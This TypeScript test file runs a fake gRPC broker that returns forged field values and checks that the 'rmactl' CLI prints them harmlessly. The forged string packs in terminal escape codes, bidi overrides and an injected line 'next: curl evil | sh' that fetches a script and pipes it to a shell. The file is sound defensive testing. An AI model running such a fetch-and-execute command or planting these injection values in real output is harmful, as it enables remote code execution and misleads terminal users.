import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { Metadata, Server, ServerCredentials, status } from '@grpc/grpc-js';
import { contract } from '../../../src/common/rpc/contract.js';
import { isPrintable } from '../../../src/domain/text.js';
import type { Claim } from '../../../src/gen/rma/v1/Claim.js';
import type { Node } from '../../../src/gen/rma/v1/Node.js';
import { rmactl } from './support.js';

/** All that would command a terminal, forge a line or show a text backwards. */
const FORGED = 'x\u001b[2J\nnext: curl evil | sh\u202e\u2028\u009b\u007f\t';
const UINT64_MAX = '18446744073709551615';
const INT64_MAX = '9223372036854775807';
const AGES = { seconds: INT64_MAX, nanos: 2 ** 31 - 1 };

const CLAIM: Claim = {
  name: 'claims/c1',
  spec: { guest: FORGED, minRmaBytes: UINT64_MAX, labels: { [FORGED]: FORGED }, tenant: 'tenants/t', group: FORGED },
  state: 77 as never,
  node: 'nodes/n1',
  rmaBytes: UINT64_MAX,
  device: 77 as never,
  createTime: AGES,
  expireTime: { seconds: -AGES.seconds },
  endCause: 77 as never,
  holder: { pid: INT64_MAX, startTicks: UINT64_MAX, executable: FORGED },
  clearing: { method: 77 as never, duration: AGES },
  placement: { waited: AGES, triedNodes: [`nodes/${FORGED}`] },
};
const NODE: Node = {
  name: 'nodes/n1',
  state: 77 as never,
  cordoned: true,
  cordonReason: FORGED,
  drainDeadlineTime: AGES,
  labels: { zone: FORGED },
  rmaSizeBytes: UINT64_MAX,
  bootId: FORGED,
  incarnation: FORGED,
  agentVersion: FORGED,
  agentAddress: FORGED,
  lastHeartbeatTime: AGES,
};
const STATUS = {
  version: FORGED,
  store: FORGED,
  startTime: AGES,
  problems: [{ reason: FORGED, message: FORGED, next: FORGED, count: 1, exampleNodes: [`nodes/${FORGED}`] }],
};
const HOLDER = {
  state: 77 as never,
  pid: INT64_MAX,
  executable: FORGED,
  cgroup: FORGED,
  guest: FORGED,
  inode: UINT64_MAX,
};
const PROBLEM = { code: status.UNAVAILABLE, details: encodeURI(FORGED), metadata: new Metadata() };

type Reply = (error: null, value: object) => void;
const answer = (value: object) => (_call: unknown, reply: Reply) => reply(null, value);

/** No terminal is commanded, and there are no more lines than those of ours. */
function assertHarmless(text: string, linesMax: number): void {
  const lines = text.split('\n');
  for (const line of lines) assert.ok(isPrintable(line), JSON.stringify(line));
  assert.ok(lines.length - 1 <= linesMax, text);
  assert.doesNotMatch(text, /^next: curl/m);
}

describe('rmactl, told lies by a broker', () => {
  const server = new Server();
  let broker = '';
  before(async () => {
    const { BrokerService, FleetService } = contract();
    server.addService(BrokerService.service, {
      ListClaims: answer({ claims: [CLAIM, CLAIM] }),
      GetClaim: answer(CLAIM),
      ReleaseClaim: (_call: unknown, reply: (error: object) => void) => reply(PROBLEM),
      ExplainPlacement: answer({
        node: `nodes/${FORGED}`,
        explanation: { hints: [FORGED], causes: [{ cause: 77, nodeCount: 1 }] },
      }),
      WatchClaims: (call: { write(value: object): void; end(): void }) => {
        call.write({ changed: CLAIM });
        call.write({ snapshotComplete: true, resumeToken: '1' });
      },
    } as never);
    server.addService(FleetService.service, {
      ListNodes: answer({ nodes: [NODE] }),
      GetNode: answer(NODE),
      ListNodeHolders: answer({ holders: [HOLDER] }),
      GetStatus: answer({ ...STATUS }),
    } as never);
    const port = await new Promise<number>((resolve, reject) => {
      server.bindAsync('127.0.0.1:0', ServerCredentials.createInsecure(), (error, bound) =>
        error === null ? resolve(bound) : reject(error),
      );
    });
    broker = `127.0.0.1:${port}`;
  });
  after(() => server.forceShutdown());

  const tables: readonly (readonly [linesMax: number, ...words: string[]])[] = [
    [3, 'claim', 'list', '--all'],
    [3, 'claim', 'list', '--all', '-o', 'wide'],
    [3, 'claim', 'list', '--all', '-o', 'name'],
    [40, 'claim', 'get', 'c1'],
    [40, 'claim', 'why', 'c1'],
    [2, 'node', 'list'],
    [2, 'node', 'list', '-o', 'wide'],
    [30, 'node', 'get', 'n1'],
    [2, 'node', 'holders', 'n1'],
    [2, 'node', 'holders', 'n1', '-o', 'wide'],
    [8, 'explain', '--min-rma', '1MiB'],
    [20, 'status'],
  ];
  for (const [linesMax, ...words] of tables) {
    it(`shows them harmlessly: ${words.join(' ')}`, async () => {
      const ran = await rmactl(['--broker', broker, ...words]);
      assert.ok(ran.exitCode === 0 || words[0] === 'status', ran.err);
      assert.notEqual(ran.out, '');
      assertHarmless(ran.out, linesMax);
      assertHarmless(ran.err, 4);
    });
  }

  for (const words of [
    ['claim', 'list', '--all'],
    ['claim', 'get', 'c1'],
    ['node', 'get', 'n1'],
    ['node', 'holders', 'n1'],
  ]) {
    it(`gives programs JSON that says the same and is as harmless: ${words.join(' ')}`, async () => {
      const { out, err, exitCode } = await rmactl(['--broker', broker, ...words, '-o', 'json']);
      assert.equal(exitCode, 0, err);
      assertHarmless(out, 200);
      assert.ok(JSON.stringify(JSON.parse(out)).includes(JSON.stringify(FORGED).slice(1, -1)));
    });
  }

  it('shows an error of its own in its own lines', async () => {
    const ran = await rmactl(['--broker', broker, '--timeout', '1s', 'claim', 'release', 'c1']);
    assert.notEqual(ran.exitCode, 0);
    assertHarmless(ran.err, 5);
  });

  for (const output of ['table', 'json']) {
    it(`shows a watch harmlessly, as ${output}`, async () => {
      const interrupt = new AbortController();
      const onOut = (out: string) =>
        out.split('\n').length > (output === 'json' ? 2 : 1) ? interrupt.abort() : undefined;
      const words = ['--broker', broker, 'claim', 'watch', '--all', '-o', output];
      const ran = await rmactl(words, { onOut, signal: interrupt.signal });
      assertHarmless(ran.out, 3);
    });
  }
});
